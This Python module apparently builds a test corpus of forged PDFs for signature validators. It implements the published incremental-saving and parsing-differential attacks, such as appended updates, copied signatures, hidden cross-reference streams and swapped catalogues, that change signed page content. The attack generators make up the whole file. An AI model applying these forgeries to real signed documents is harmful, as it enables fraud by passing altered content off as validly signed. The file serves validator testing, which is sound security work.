"""Incremental saving attacks, and files that readers put together in different ways.

Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk: 1 Trillion Dollar Refund - How To Spoof PDF
Signatures, CCS 2019 (ISA); parsing differentials after Müller et al., Processing Dangerous Paths,
NDSS 2021.
"""

from __future__ import annotations

import re

from support.attacks_family import Family, Forge
from support.attacks_raw import (
    EVIL,
    Shape,
    Table,
    appended,
    black_page,
    body,
    content_number,
    last_xref,
    place,
    root,
    size,
    stream,
    update,
)

ISA = Family("Incremental saving", "CCS 2019")
PARSING = Family("Cross-references and streams", "NDSS 2021, pyHanko's tests")


def _shaped(shape: Shape) -> Forge:
    return lambda data: appended(data, black_page(data), shape)


for _name, _shape in {
    "whole update, table": Shape(),
    "whole update, stream": Shape(Table.STREAM),
    "no cross-references": Shape(Table.NONE),
    "no cross-references, no startxref": Shape(Table.NONE, startxref=b""),
    "no trailer": Shape(trailer=False),
    "no startxref": Shape(startxref=b""),
    "no end mark": Shape(eof=b""),
    "half an end mark": Shape(eof=b"%%EO"),
    "end mark twice": Shape(eof=b"%%EOF\n%%EOF\n"),
    "startxref zero": Shape(startxref=b"0"),
    "startxref negative": Shape(startxref=b"-1"),
    "startxref far outside": Shape(startxref=b"99999999999999"),
    "startxref a word": Shape(startxref=b"here"),
    "no way back": Shape(prev=b""),
    "way back to itself": Shape(prev=b"/Prev 999999"),
    "way back negative": Shape(prev=b"/Prev -5"),
    "way back a reference": Shape(prev=b"/Prev 3 0 R"),
    "no table, no end mark": Shape(Table.NONE, startxref=b"", eof=b""),
    "trailer with other identifier": Shape(entries=b"/ID [<00> <00>]"),
    "trailer says encrypted": Shape(entries=b"/Encrypt << /Filter /Standard /V 1 /R 2 /O () /U () /P -1 >>"),
}.items():
    ISA.add(_name, _shaped(_shape))


@ISA
def old_startxref_behind_the_new_objects(data: bytes) -> bytes:
    """The update ends with the old startxref, so that only repairing readers see its objects."""
    return appended(data, black_page(data), Shape(Table.NONE, startxref=b"%d" % last_xref(data)))


@ISA
def copied_signature_in_the_update(data: bytes) -> bytes:
    """The update brings the signature dictionary along, word for word, as if it had been signed."""
    at = place(data)
    head = data.rindex(b"%d 0 obj" % at.number, 0, at.before)
    whole = data[head : data.index(b"endobj", at.after)]
    return appended(data, {**black_page(data), at.number: whole.partition(b"obj")[2]})


@ISA
def copied_signature_under_a_new_number(data: bytes) -> bytes:
    """The same, and the field's value is the copy."""
    at = place(data)
    head = data.rindex(b"%d 0 obj" % at.number, 0, at.before)
    whole = data[head : data.index(b"endobj", at.after)].partition(b"obj")[2]
    field = data.rindex(b"/V %d 0 R" % at.number, 0, at.before)
    number = int(re.findall(rb"(\d+) 0 obj", data[:field])[-1])
    new = size(data) + 1
    moved = body(data, number).replace(b"/V %d 0 R" % at.number, b"/V %d 0 R" % new)
    return appended(data, {**black_page(data), new: whole, number: moved})


@ISA
def the_last_revision_taken_back(data: bytes) -> bytes:
    """A startxref behind the end leads back to the revision before the signature."""
    first = int(re.findall(rb"startxref\s+(\d+)", data)[0])
    return data + b"startxref\n%d\n%%%%EOF\n" % first


@ISA
def several_updates(data: bytes) -> bytes:
    """A harmless update, then the hostile one."""
    return appended(appended(data, {size(data): b"null"}), black_page(data))


@ISA
def the_update_hides_behind_blanks(data: bytes) -> bytes:
    """The update is far from the end of what is signed."""
    gap = b" " * 5000
    return data + gap + update(data, black_page(data), Shape(shift=len(gap)))


@ISA
def an_update_put_before_the_signed_end(data: bytes) -> bytes:
    """The update is put in front of the last startxref."""
    cut = data.rindex(b"startxref")
    return data[:cut] + update(data, black_page(data), Shape(shift=cut - len(data))) + data[cut:]


@PARSING
def hybrid_file_with_hidden_objects(data: bytes) -> bytes:
    """A table whose trailer points to a stream of other cross-references (/XRefStm)."""
    number, evil = content_number(data), size(data) + 3
    hidden = b"\n%d 0 obj\n%s\nendobj\n" % (number, stream(EVIL))
    at = len(data) + 1
    rows = bytes([1]) + at.to_bytes(4, "big") + b"\0\0"
    place_of_stream = len(data) + len(hidden)
    head = b"/Type /XRef /W [1 4 2] /Index [%d 1] /Size %d /Root %d 0 R" % (number, evil + 1, root(data))
    table = b"%d 0 obj\n%s\nendobj\n" % (evil, stream(rows, head))
    shape = Shape(entries=b"/XRefStm %d" % place_of_stream, shift=len(hidden) + len(table))
    return data + hidden + table + update(data, {size(data): b"null"}, shape)


@PARSING
def object_in_a_new_object_stream(data: bytes) -> bytes:
    """The page dictionary is redefined inside an object stream."""
    page = size(data) + 1
    number = int(re.findall(rb"/Pages (\d+) 0 R", body(data, root(data)))[0])
    inner = b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % page
    head = b"%d 0 " % number
    packed = stream(head + inner, b"/Type /ObjStm /N 1 /First %d" % len(head))
    evil = {
        page: b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 300 300] /Contents %d 0 R >>"
        % (number, page + 1),
        page + 1: stream(EVIL),
        page + 2: packed,
    }
    body_bytes = update(data, evil, Shape(Table.NONE, startxref=b"", eof=b""))
    offsets = {key: len(data) + body_bytes.index(b"%d 0 obj" % key) for key in evil}
    table = page + 3
    start = len(data) + len(body_bytes)
    offsets[table] = start
    rows = bytes([2]) + (page + 2).to_bytes(4, "big") + b"\0\0"
    index = b"%d 1" % number
    for key in sorted(offsets):
        rows += bytes([1]) + offsets[key].to_bytes(4, "big") + b"\0\0"
        index += b" %d 1" % key
    entries = b"/Type /XRef /W [1 4 2] /Index [%s] /Size %d /Root %d 0 R /Prev %d" % (
        index,
        table + 1,
        root(data),
        last_xref(data),
    )
    xref = b"%d 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, stream(rows, entries), start)
    return data + body_bytes + xref


@PARSING
def content_put_on_the_free_list(data: bytes) -> bytes:
    """The update declares the page's content free."""
    return appended(data, {size(data): b"null"}, Shape(free=(content_number(data),)))


@PARSING
def signature_put_on_the_free_list(data: bytes) -> bytes:
    """The update declares the signature free."""
    return appended(data, {size(data): b"null"}, Shape(free=(place(data).number,)))


@PARSING
def one_object_twice_in_one_update(data: bytes) -> bytes:
    """Two definitions of one object, of which readers take the first or the last."""
    number = content_number(data)
    same = body(data, number)
    return appended(data, [(number, stream(EVIL)), (number, same)])


@PARSING
def content_under_a_higher_generation(data: bytes) -> bytes:
    """The redefinition bears generation 1."""
    number = content_number(data)
    return appended(data, {number: stream(EVIL)}).replace(
        b"\n%d 0 obj\n<<  /Length" % number, b"\n%d 1 obj\n<<  /Length" % number
    )


@PARSING
def catalogue_swapped(data: bytes) -> bytes:
    """The trailer names another catalogue, with other pages."""
    new = size(data) + 1
    return appended(
        data,
        {
            new: b"<< /Type /Catalog /Pages %d 0 R /AcroForm %s >>" % (new + 1, _form(data)),
            new + 1: b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % (new + 2),
            new + 2: b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 300 300] /Contents %d 0 R >>"
            % (new + 1, new + 3),
            new + 3: stream(EVIL),
        },
        Shape(root=new),
    )


def _form(data: bytes) -> bytes:
    found = re.search(rb"/AcroForm (\d+ 0 R|<<.*?>>)", body(data, root(data)), re.DOTALL)
    assert found
    return found[1]


@PARSING
def catalogue_redefined(data: bytes) -> bytes:
    """The catalogue is redefined under its own number, with other pages."""
    new = size(data) + 1
    evil = re.sub(rb"/Pages \d+ 0 R", b"/Pages %d 0 R" % new, body(data, root(data)))
    return appended(
        data,
        {
            root(data): evil,
            new: b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % (new + 1),
            new + 1: b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 300 300] /Contents %d 0 R >>"
            % (new, new + 2),
            new + 2: stream(EVIL),
        },
    )


@PARSING
def something_before_the_head(data: bytes) -> bytes:
    """Another file format in front (polyglot): every offset is wrong."""
    return b"GIF89a/*" + b" " * 50 + b"*/\n" + data


@PARSING
def a_second_head(data: bytes) -> bytes:
    """The whole file behind another one."""
    return b"%PDF-1.7\n1 0 obj\nnull\nendobj\n" + data


@PARSING
def a_whole_file_behind_the_end(data: bytes) -> bytes:
    """An unsigned file behind the signed one."""
    return data + data[: data.index(b"%%EOF") + 6].replace(b"/MediaBox", b"/MediaBex")
